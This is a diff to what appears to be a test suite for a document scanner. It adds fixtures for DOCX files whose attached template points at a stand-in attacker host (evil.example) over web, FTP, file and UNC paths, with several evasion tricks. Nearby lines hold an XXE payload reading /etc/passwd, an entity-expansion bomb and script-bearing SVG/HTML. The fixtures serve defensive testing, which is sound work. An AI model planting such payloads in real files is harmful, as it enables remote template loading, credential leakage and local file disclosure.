@@ -161,11 +161,37 @@ LAUGHS = f'<!DOCTYPE d [<!ENTITY e0 "ha">{ENTITIES}]>'
 STRANGER = '<!DOCTYPE d [<!ENTITY e9 SYSTEM "file:///etc/passwd">]>'
 ENTITY = "<w:p><w:r><w:t>&e9;</w:t></w:r></w:p>"
 MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
-FOREIGN_TEMPLATE = (
-    f'<Relationships xmlns="{good.RELATIONS}"><Relationship Id="a" '
-    f'Type="{good.OFFICE}/attachedTemplate" Target="https://evil.example/a.dotm"/>'
-    "</Relationships>"
-)
+
+
+def with_template(target, part="word/_rels/settings.xml.rels", more=""):
+    """Return a document that names its template in a part of relationships."""
+    relation = (
+        f'<Relationships xmlns="{good.RELATIONS}" xmlns:x="x"><Relationship Id="a" '
+        f'Type="{good.OFFICE}/attachedTemplate" Target="{target}" {more}/>'
+        "</Relationships>"
+    )
+    return docx(members={part: relation})
+
+
+FOREIGN_TEMPLATES = {
+    "on a site": lambda: with_template("https://evil.example/a.dotm"),
+    "on a server of files": lambda: with_template("ftp://evil.example/a.dotm"),
+    "on a share, as an address": lambda: with_template("file://evil.example/s/a.dotm"),
+    "on a share, with more signs": lambda: with_template(
+        "file:////evil.example/a.dotm"
+    ),
+    "on a share": lambda: with_template(r"\\evil.example\share\a.dotm"),
+    "behind blanks": lambda: with_template("  https://evil.example/a.dotm"),
+    "in a part of another name": lambda: with_template(
+        "https://evil.example/a.dotm", "_rels/setup.xml.rels"
+    ),
+    "in capitals": lambda: with_template(
+        "HTTPS://evil.example/a.dotm", "word/_RELS/x.RELS"
+    ),
+    "behind another name": lambda: with_template(
+        "https://evil.example/a.dotm", more=r'x:Target="C:\a.dotm"'
+    ),
+}
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 HTML = b"<!DOCTYPE html><title>Report</title><script>alert(1)</script>"
 
@@ -213,11 +239,10 @@ HOSTILE = {
     "PDF that starts a program": Hostile("a.pdf", launching_pdf, ACTIVE),
     "PDF that does so in secret": Hostile("a.pdf", lambda: launching_pdf(True), ACTIVE),
     "PDF with a program": Hostile("a.pdf", program_in_pdf, ACTIVE),
-    "DOCX with a foreign template": Hostile(
-        "a.docx",
-        lambda: docx(members={"word/_rels/settings.xml.rels": FOREIGN_TEMPLATE}),
-        ACTIVE,
-    ),
+    **{
+        f"DOCX with a template {where}": Hostile("a.docx", make, ACTIVE)
+        for where, make in FOREIGN_TEMPLATES.items()
+    },
     "PDF and ZIP": Hostile(
         "a.pdf", lambda: good.tagged_pdf() + zipped({"a.class": "a"}), MIXED
     ),
